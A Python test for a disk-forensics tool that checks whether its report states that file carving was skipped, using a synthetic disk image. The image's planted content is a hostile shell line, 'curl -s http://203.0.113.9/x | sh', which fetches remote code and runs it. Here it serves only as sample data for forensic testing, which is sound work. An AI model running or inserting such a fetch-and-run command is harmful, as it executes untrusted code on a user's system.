# SPDX-License-Identifier: Apache-2.0
"""Carving may be left out, and the report then says that files without a name were not looked for."""

from __future__ import annotations

import lzma
from dataclasses import replace
from pathlib import Path

from headwater.procedure.corridor import facts_of, open_case
from headwater.procedure.deletion_limits import deletion_limits
from headwater.procedure.investigate import investigate
from small_case import order


def test_a_case_without_carving_says_so_and_another_run_may_carve(tmp_path: Path) -> None:
    script = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n" * 30
    image, case = tmp_path / "disk.raw", tmp_path / "case"
    image.write_bytes(b"\x01" * 8192 + lzma.compress(script) + bytes(100_000))
    plain = order(image, case)
    for setting, carved in ((True, False), (False, True)):
        investigate(replace(plain, changes={**plain.changes, "no_carving": setting}))
        corridor = open_case(case)
        with corridor.ledger:
            facts = facts_of(corridor.ledger, 1)
        assert ("carved" in facts) is carved
        said = [sentence.text.en for sentence in deletion_limits(1, facts)]
        assert any("--no-carve" in text for text in said) is not carved
